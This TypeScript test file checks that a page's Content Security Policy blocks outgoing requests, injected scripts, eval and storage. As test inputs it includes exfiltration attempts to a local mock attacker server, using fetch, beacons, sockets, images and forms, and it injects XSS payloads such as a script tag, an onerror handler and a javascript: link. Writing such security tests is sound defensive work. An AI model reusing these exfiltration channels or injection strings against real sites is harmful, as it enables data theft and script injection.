/** The page sends nothing and loads nothing, whatever script or content is put into its file. */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { describe } from "node:test";
import { pathToFileURL } from "node:url";
import { EN_PAGE } from "../../page/language/page-en.ts";
import { pageTests, HTTP_HOST, PARALLEL, verdict } from "./browser.ts";
import { changedPages, scriptInStream } from "./changed-script.ts";

const { playground, pageTest } = pageTests();

const WAYS = ["fetch", "beacon", "socket", "events", "image", "script", "iframe", "object", "link"];
/**
 * The time within which all requests arrive if nothing blocks them; the test then stops waiting. In
 * milliseconds.
 */
const ARRIVED_MS = 10_000;
const HELD_MS = 500;

/** A server that an attacker might send secrets to. */
async function withServer(
  run: (url: string, seen: string[], answer: { body: Buffer }) => Promise<void>,
): Promise<void> {
  const seen: string[] = [];
  const answer = { body: Buffer.of() };
  const server = createServer((request, response) => {
    seen.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*");
    response.setHeader("content-type", "text/html").end(answer.body);
  });
  server.on("upgrade", ({ method, url }, socket) => {
    seen.push(`${method} ${url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  try {
    await run(`http://127.0.0.1:${port}`, seen, answer);
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

/** Every way for a script to send data without leaving the page. */
async function sendAll(url: string): Promise<void> {
  const attempt = (act: () => unknown): Promise<unknown> =>
    Promise.resolve()
      .then(act)
      .catch(() => undefined);
  await attempt(() => fetch(`${url}/fetch`, { mode: "no-cors" }));
  await attempt(() => navigator.sendBeacon(`${url}/beacon`, "secret"));
  await attempt(() => new WebSocket(`${url.replace("http", "ws")}/socket`));
  await attempt(() => new EventSource(`${url}/events`));
  await attempt(() => (new Image().src = `${url}/image`));
  for (const tag of ["script", "iframe", "link", "object"]) {
    await attempt(() => {
      const element = document.createElement(tag);
      element.setAttribute("rel", "stylesheet");
      for (const name of ["src", "href", "data"]) element.setAttribute(name, `${url}/${tag}`);
      document.body.append(element);
    });
  }
}

/** The remaining way, which leaves the page. */
function sendForm(url: string): void {
  const form = document.createElement("form");
  form.action = `${url}/form`;
  form.method = "post";
  document.body.append(form);
  form.submit();
}

void describe("the page", { concurrency: PARALLEL }, () => {
  pageTest(
    "no request leaves the page, whatever runs in it",
    (open) =>
      withServer(async (url, seen) => {
        const { page } = await open();
        await page.evaluate(sendAll, url);
        await page.evaluate(sendForm, url);
        await page.waitForTimeout(HELD_MS);
        assert.equal(seen.join(), "");
        // Without a policy, all requests arrive, so the attempts are real.
        await page.goto(url);
        await page.evaluate(sendAll, url);
        const missing = (): string[] => WAYS.filter((way) => !seen.join("\n").includes(`/${way}`));
        for (const end = Date.now() + ARRIVED_MS; missing().length > 0 && Date.now() < end;) {
          await page.waitForTimeout(50);
        }
        assert.deepEqual(missing(), []);
        await page.evaluate(sendForm, url);
        await page.waitForURL(`${url}/form`);
        assert.ok(seen.includes("POST /form"));
      }),
    { expectsComplaints: true },
  );

  pageTest(
    "injected scripts, handlers and eval do not run",
    async (open) => {
      const html = readFileSync(playground.file, "utf8");
      const injected = `<script>window.hacked = "script"</script><img src="x:" onerror="window.hacked = 'handler'"><style>h1 { color: rgb(1, 2, 3) }</style><a id="js" href="javascript:window.hacked='address'">x</a>`;
      const file = playground.file.replace("index", "injected");
      writeFileSync(
        file,
        html.replace('<header class="top">', () => `${injected}<header class="top">`),
      );
      const { page, complaints } = await open({}, pathToFileURL(file).href);
      await page.locator("#js").click();
      // The debugger may call eval; code that it schedules for later may not.
      const later = await page.evaluate(
        () =>
          new Promise<string[]>((resolve) => {
            const names: string[] = [];
            const attempt = (act: () => unknown): void => {
              try {
                names.push(String(act()));
              } catch (error) {
                names.push((error as Error).name);
              }
            };
            setTimeout(() => {
              attempt(() => globalThis.eval("1 + 1"));
              attempt(() => Reflect.construct(Function, ["return 1"]));
              attempt(() => (document.body.innerHTML = "<p>text</p>"));
              attempt(() => new Worker(URL.createObjectURL(new Blob(["1"]))));
              attempt(() => (document.createElement("script").text = "1"));
              const { trustedTypes } = window as unknown as {
                trustedTypes: { createPolicy: (name: string, rules: object) => object };
              };
              for (const name of ["page", "worker", "default"])
                attempt(() => trustedTypes.createPolicy(name, {}));
              resolve(names);
            });
          }),
      );
      assert.deepEqual(later, ["EvalError", "EvalError", ...Array<string>(6).fill("TypeError")]);
      assert.equal(await page.evaluate(() => (window as { hacked?: string }).hacked), undefined);
      const colour = await page
        .locator("h1")
        .evaluate((element) => getComputedStyle(element).color);
      assert.notEqual(colour, "rgb(1, 2, 3)");
      assert.ok(complaints.filter((text) => text.includes("Content Security Policy")).length >= 4);
    },
    { expectsComplaints: true },
  );

  pageTest("only two scripts run: the one in the file, and the one that it decodes", () => {
    const html = readFileSync(playground.file, "utf8");
    const inFile = [...html.matchAll(/<script[^>]*>(.*?)<\/script>/gs)].map(
      ([, text]) => text ?? "",
    );
    assert.equal(inFile.length, 1);
    const hashes = [...inFile, scriptInStream(html)].map(
      (text) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`,
    );
    const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? "";
    const directives = policy.split("; ");
    assert.deepEqual(
      directives.filter((one) => /^(?:script|worker|default)-src/.test(one)),
      [
        "default-src 'none'",
        `script-src ${hashes.join(" ")} 'wasm-unsafe-eval'`,
        "worker-src blob:",
      ],
    );
    assert.ok(directives.includes("require-trusted-types-for 'script'"));
    assert.ok(directives.includes("trusted-types page worker"));
  });

  pageTest(
    "a changed or incomplete stream does not run, and the page says so",
    async (open) => {
      const { page, complaints } = await open();
      const { longer, shorter, empty } = changedPages(playground.file);
      const shown = async (url: string): Promise<string> => {
        await page.goto(url);
        await page.locator("#result", { hasText: EN_PAGE.broken }).waitFor();
        return page.locator("#result").innerText();
      };
      assert.match(await shown(longer), /: the browser did not run its script$/);
      assert.equal(await page.evaluate(() => (window as { hacked?: string }).hacked), undefined);
      assert.equal(complaints.filter((text) => text.includes("script-src")).length, 1);
      assert.match(await shown(shorter), /^The page could not start: /);
      assert.match(await shown(empty), /: Error: truncated input$/);
    },
    { expectsComplaints: true },
  );

  pageTest("works from an HTTP server, which receives only the first request", (open) =>
    withServer(async (url, seen, answer) => {
      answer.body = readFileSync(playground.file);
      const { page } = await open({}, url.replace("127.0.0.1", HTTP_HOST));
      assert.equal(await page.evaluate(() => isSecureContext), false);
      assert.match(await verdict(page), /signature-mismatch/);
      await page.getByRole("tab", { name: "Everything as text" }).click();
      await page.locator("#share").click();
      await page.locator("#make-link").click();
      await page.getByText("Copy it from the field").waitFor();
      await page.goto(await page.locator("#link").inputValue());
      await page.locator("#notices .as-shared").waitFor();
      assert.deepEqual([...new Set(seen)].sort(), ["GET /"]);
    }),
  );

  pageTest("nothing is stored", async (open) => {
    const { page } = await open();
    const stored = await page.evaluate(async () => [
      localStorage.length,
      sessionStorage.length,
      document.cookie.length,
      (await indexedDB.databases()).length,
    ]);
    assert.deepEqual(stored, [0, 0, 0, 0]);
    const kept = await page
      .locator("textarea, input")
      .evaluateAll((fields) =>
        fields.filter((field) => field.getAttribute("autocomplete") !== "off").map(({ id }) => id),
      );
    assert.deepEqual(kept, []);
    // Some browsers check spelling on a server.
    const checked = await page
      .locator("textarea, input, [contenteditable]")
      .evaluateAll((fields) =>
        (fields as HTMLElement[])
          .filter(({ spellcheck }) => spellcheck)
          .map(({ id, className }) => id || className),
      );
    assert.deepEqual(checked, []);
  });
});
